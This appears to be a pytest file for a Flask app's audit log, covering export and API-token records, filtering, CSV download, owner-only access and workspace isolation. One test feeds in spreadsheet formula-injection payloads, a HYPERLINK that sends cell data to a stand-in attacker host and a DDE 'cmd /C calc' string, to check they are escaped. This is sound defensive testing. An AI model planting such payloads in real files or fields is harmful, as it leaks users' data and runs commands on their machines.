"""The audit log: exports, API tokens, launch and reveal are on record with who, what, when
and from which address; owners read it at /audit (filtered, paginated, one workspace only)
and download it as a CSV that no spreadsheet runs as a formula."""

from __future__ import annotations

import csv
import io
import json
import re
from collections.abc import Callable
from datetime import UTC, datetime
from typing import Any

import pytest
from flask import Flask
from sqlalchemy import select

from fitcheck.extensions import db
from fitcheck.models import ActorKind, AuditEvent, RevealPolicy, Role, User
from fitcheck.services import api_tokens, assessments, audit
from fitcheck.services.answers import AnswerInput, save_answers
from fitcheck.views.audit import ACTOR_LABELS, KIND_LABELS

from .support import count_queries, csrf_token, sign_in_with

OWNER_ONLY = ("/audit", "/audit.csv", "/workspace/export")


def events(workspace_id: int, kind: audit.Kind | None = None) -> list[AuditEvent]:
    query = select(AuditEvent).where(AuditEvent.workspace_id == workspace_id)
    if kind is not None:
        query = query.where(AuditEvent.kind == kind.value)
    return list(db.session.scalars(query.order_by(AuditEvent.id)))


def read_csv(body: bytes) -> list[dict[str, str]]:
    assert body.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"), newline="")))


def answer_everything(respondent: Any) -> None:
    save_answers(
        respondent,
        [
            AnswerInput(trait_key=trait.key, other=3, self_=4, importance=3)
            for trait in respondent.assessment.traits
        ],
        submit=True,
    )


def things(page: str) -> list[int]:
    """The numbers of the events `fill` made, in the order the page lists them."""
    return [int(number) for number in re.findall(r"Thing (\d+)\s", page)]


def fill(workspace_id: int, count: int, *, kind: audit.Kind = audit.Kind.DELETE) -> None:
    """`count` events of one kind, as fitcheck itself would record them."""
    for number in range(count):
        audit.record(kind, workspace_id=workspace_id, subject=f"Thing {number}", number=number)
    db.session.commit()


def test_every_kind_and_every_actor_but_a_person_has_a_label() -> None:
    assert set(KIND_LABELS) == set(audit.Kind)
    assert set(ACTOR_LABELS) == set(ActorKind) - {ActorKind.USER}


# --- What is on record -----------------------------------------------------------------------


def test_each_export_is_on_record_with_who_what_when_and_address(worked_example, sign_in, client):
    assessment, user = worked_example(partner_name="Aozora Design")
    sign_in(user.email)
    base = f"/assessments/{assessment.id}/export"
    for url in (f"{base}/answers.csv", f"{base}/results.xlsx", f"{base}/results.json"):
        assert client.get(url).status_code == 200

    exported = events(user.workspace_id, audit.Kind.EXPORT)
    assert [(e.details["what"], e.details["format"]) for e in exported] == [
        ("answers", "csv"),
        ("results", "xlsx"),
        ("results", "json"),
    ]
    for event in exported:
        assert event.actor_kind is ActorKind.USER
        assert event.actor_id == user.id
        assert event.actor_name == f"{user.name} <{user.email}>"
        assert event.details["assessment_id"] == assessment.id
        assert "Aozora Design" in event.subject
        assert event.ip_address == "127.0.0.1"
        assert event.created_at is not None

    page = client.get("/audit?kind=export").get_data(as_text=True)
    assert page.count("Aozora Design") == 3
    assert user.email in page and "127.0.0.1" in page
    assert "format: xlsx" in page and "what: answers" in page


def test_a_sealed_export_leaves_no_event(worked_example, sign_in, client):
    assessment, user = worked_example(reveal=False)
    sign_in(user.email)
    assert client.get(f"/assessments/{assessment.id}/export/results.csv").status_code == 409
    assert events(user.workspace_id, audit.Kind.EXPORT) == []


def test_api_tokens_are_on_record_by_name_and_prefix_never_the_secret(
    make_user, sign_in, client
) -> None:
    user = make_user()
    sign_in(user.email)
    created = client.post(
        "/account/api-tokens",
        data={"name": "BI export", "csrf_token": csrf_token(client, "/account")},
    )
    assert created.status_code == 200
    token = api_tokens.list_tokens(user)[0]
    shown = re.search(r'value="(fc_[^"]+)" id="new-api-token"', created.get_data(as_text=True))
    assert shown is not None
    secret = shown.group(1)
    assert api_tokens.authenticate(secret) is not None
    revoked = client.post(
        f"/account/api-tokens/{token.id}/revoke",
        data={"csrf_token": csrf_token(client, "/account")},
    )
    assert revoked.status_code == 302

    made = events(user.workspace_id, audit.Kind.API_TOKEN_CREATED)
    ended = events(user.workspace_id, audit.Kind.API_TOKEN_REVOKED)
    assert len(made) == len(ended) == 1
    for event in (made[0], ended[0]):
        assert event.subject == f"BI export ({token.prefix}…)"
        assert event.actor_id == user.id and event.actor_kind is ActorKind.USER
        assert event.details["token_id"] == token.id
        assert event.ip_address == "127.0.0.1"
    everything = json.dumps(
        [(e.subject, e.details, e.actor_name) for e in events(user.workspace_id)]
    )
    assert secret not in everything and token.token_hash not in everything
    assert secret not in client.get("/audit").get_data(as_text=True)
    assert secret.encode() not in client.get("/audit.csv").data


def test_revoking_twice_is_on_record_once(make_user) -> None:
    user = make_user()
    token, _ = api_tokens.create_token(user, "Twice")
    api_tokens.revoke_token(token)
    api_tokens.revoke_token(token)
    assert len(events(user.workspace_id, audit.Kind.API_TOKEN_REVOKED)) == 1


def test_a_token_made_on_the_command_line_is_on_record_as_fitcheck(make_user, runner) -> None:
    user = make_user()
    result = runner.invoke(args=["create-token", user.email, "--name", "Nightly"])
    assert result.exit_code == 0, result.output
    (event,) = events(user.workspace_id, audit.Kind.API_TOKEN_CREATED)
    assert event.actor_kind is ActorKind.SYSTEM and event.actor_id is None
    assert event.subject.startswith("Nightly (fc_")
    assert event.details["user"] == user.email
    assert result.output.strip().splitlines()[-1] not in event.subject


def test_launch_and_reveal_name_the_person_and_the_automatic_rule(
    make_user, make_assessment, sign_in, client
) -> None:
    owner = make_user()
    by_hand, _ = make_assessment(owner, launch=False)
    assessments.launch(by_hand, invite=False, actor=owner)
    assessments.reveal(by_hand, actor=owner)
    automatic, tokens = make_assessment(owner, launch=False, reveal_policy=RevealPolicy.AUTOMATIC)
    assessments.launch(automatic, invite=False, actor=owner)
    for respondent in tokens:
        answer_everything(respondent)

    launches = events(owner.workspace_id, audit.Kind.LAUNCH)
    reveals = events(owner.workspace_id, audit.Kind.REVEAL)
    assert [(e.details["assessment_id"], e.actor_id) for e in launches] == [
        (by_hand.id, owner.id),
        (automatic.id, owner.id),
    ]
    assert [(e.details["assessment_id"], e.actor_kind, e.actor_id) for e in reveals] == [
        (by_hand.id, ActorKind.USER, owner.id),
        (automatic.id, ActorKind.RULE, None),
    ]

    sign_in(owner.email)
    page = client.get("/audit?kind=reveal").get_data(as_text=True)
    assert "automatic reveal (both sides had enough answers)" in page
    assert owner.email in page
    rows = read_csv(client.get("/audit.csv?kind=reveal").data)
    assert [row["actor_kind"] for row in rows] == ["rule", "user"]  # newest first
    assert rows[0]["actor"] == "rule"


# --- Reading it ------------------------------------------------------------------------------


def test_the_log_is_filtered_by_kind_and_paginated_newest_first(make_user, sign_in, client):
    owner = make_user()
    fill(owner.workspace_id, 55)
    fill(owner.workspace_id, 2, kind=audit.Kind.LAUNCH)
    sign_in(owner.email)

    first = client.get("/audit?kind=delete").get_data(as_text=True)
    assert things(first) == list(range(54, 4, -1))
    assert "Assessment launched" not in first.split("<tbody>")[1]
    assert 'href="/audit?kind=delete&amp;page=2"' in first
    second = client.get("/audit?kind=delete&page=2").get_data(as_text=True)
    assert things(second) == [4, 3, 2, 1, 0]

    launches = client.get("/audit?kind=launch").get_data(as_text=True)
    assert things(launches) == [1, 0]
    assert "Deleted" not in launches.split("<tbody>")[1]
    everything = client.get("/audit?kind=no-such-kind&page=x").get_data(as_text=True)
    assert things(everything) == things(client.get("/audit").get_data(as_text=True))
    assert client.get("/audit?page=-3").status_code == 200
    for far in ("999", "99999999999999999999"):
        past = client.get(f"/audit?page={far}")
        assert past.status_code == 200 and "past the end" in past.get_data(as_text=True)

    rows = read_csv(client.get("/audit.csv?kind=delete").data)
    assert len(rows) == 55 and rows[0]["subject"] == "Thing 54"
    assert json.loads(rows[0]["details"]) == {"number": 54}
    assert list(rows[0]) == list(audit.CSV_COLUMNS)


def test_when_is_shown_in_the_apps_timezone(make_user, sign_in, client):
    owner = make_user()
    event = audit.record(audit.Kind.DELETE, workspace_id=owner.workspace_id, subject="Late")
    event.created_at = datetime(2026, 12, 3, 23, 30, tzinfo=UTC)  # 08:30 in Tokyo
    db.session.commit()
    sign_in(owner.email)
    page = client.get("/audit?kind=delete").get_data(as_text=True)
    assert "Dec 4, 2026, 08:30" in page and "08:30:00" not in page
    assert 'datetime="2026-12-03T23:30:00+00:00"' in page
    rows = read_csv(client.get("/audit.csv?kind=delete").data)
    assert rows[0]["created_at"] == "2026-12-03T23:30:00+00:00"


def test_downloading_the_log_is_itself_on_record(make_user, sign_in, client):
    owner = make_user()
    sign_in(owner.email)
    response = client.get("/audit.csv?kind=launch")
    assert response.status_code == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Cache-Control"] == "no-store"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="fitcheck-audit-log-')
    (event,) = events(owner.workspace_id, audit.Kind.EXPORT)
    assert event.details == {"format": "csv", "what": "audit_log", "events": 0, "filter": "launch"}
    assert event.actor_id == owner.id


def test_a_japanese_workspaces_log_names_its_columns_in_japanese_under_the_machine_names(
    make_user, sign_in, client
):
    owner = make_user()
    owner.workspace.language = "ja"
    db.session.commit()
    sign_in(owner.email)
    lines = client.get("/audit.csv").data.decode("utf-8-sig").splitlines()
    assert lines[0].split(",") == list(audit.CSV_COLUMNS)
    assert lines[1].split(",")[:3] == ["日時（UTC）", "種類", "実行者の種別"]
    owner.workspace.language = "en"
    db.session.commit()
    lines = client.get("/audit.csv").data.decode("utf-8-sig").splitlines()
    assert lines[0].split(",") == list(audit.CSV_COLUMNS)
    assert lines[1].split(",")[1] == "export"  # no label row: the first download's event


def test_text_that_a_spreadsheet_would_run_comes_out_escaped(make_user, sign_in, client):
    owner = make_user()
    owner.name = '=HYPERLINK("http://evil.example/?"&A1)'
    db.session.commit()
    audit.record(
        audit.Kind.DELETE,
        workspace_id=owner.workspace_id,
        actor=owner,
        subject="@SUM(1+1)*cmd|' /C calc'!A0",
        note="-2+3",
    )
    audit.record(audit.Kind.DELETE, workspace_id=owner.workspace_id, subject="＝1+1")
    db.session.commit()
    sign_in(owner.email)
    rows = read_csv(client.get("/audit.csv?kind=delete").data)
    assert rows[0]["subject"] == "'＝1+1"
    assert rows[1]["actor"].startswith("'=HYPERLINK(")
    assert rows[1]["subject"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@", "＝"))
    page = client.get("/audit").get_data(as_text=True)
    assert "&#34;http://evil.example/?&#34;&amp;A1" in page  # escaped, never markup


# --- Who may read it -------------------------------------------------------------------------


@pytest.mark.parametrize("url", OWNER_ONLY)
def test_members_get_403_and_visitors_the_sign_in(url, make_user, sign_in, client):
    owner = make_user()
    member = make_user(workspace=owner.workspace, role=Role.MEMBER)
    assert client.get(url).status_code == 302
    sign_in(member.email)
    assert client.get(url).status_code == 403
    assert events(owner.workspace_id, audit.Kind.EXPORT) == []


def test_only_owners_see_the_audit_log_link(app, make_user, sign_in, client):
    owner = make_user()
    member = make_user(workspace=owner.workspace, role=Role.MEMBER)
    sign_in(member.email)
    assert 'href="/audit"' not in client.get("/partners/").get_data(as_text=True)
    owners_browser = app.test_client()
    sign_in_with(owners_browser, owner.email)
    assert 'href="/audit"' in owners_browser.get("/partners/").get_data(as_text=True)


def test_each_workspace_reads_only_its_own_log(make_user, sign_in, client):
    ours = make_user()
    theirs = make_user()
    audit.record(audit.Kind.DELETE, workspace_id=ours.workspace_id, subject="Our secret")
    audit.record(audit.Kind.DELETE, workspace_id=theirs.workspace_id, subject="Their secret")
    db.session.commit()
    sign_in(ours.email)
    for url in ("/audit", "/audit?kind=delete", "/audit.csv", "/audit.csv?kind=delete"):
        body = client.get(url).get_data(as_text=True)
        assert "Our secret" in body, url
        assert "Their secret" not in body and theirs.email not in body, url
    assert all(
        event.workspace_id == ours.workspace_id
        for event in audit.list_events(ours.workspace_id).items
    )


def test_the_page_runs_the_same_few_queries_however_long_the_log(
    app: Flask, make_user: Callable[..., User]
) -> None:
    counts = []
    for size in (3, 120):
        owner = make_user()
        fill(owner.workspace_id, size)
        client = app.test_client()
        sign_in_with(client, owner.email)
        with count_queries() as statements:
            response = client.get("/audit")
        assert response.status_code == 200
        counts.append(len(statements))
    assert counts[0] == counts[1], counts
    assert counts[0] <= 6, counts
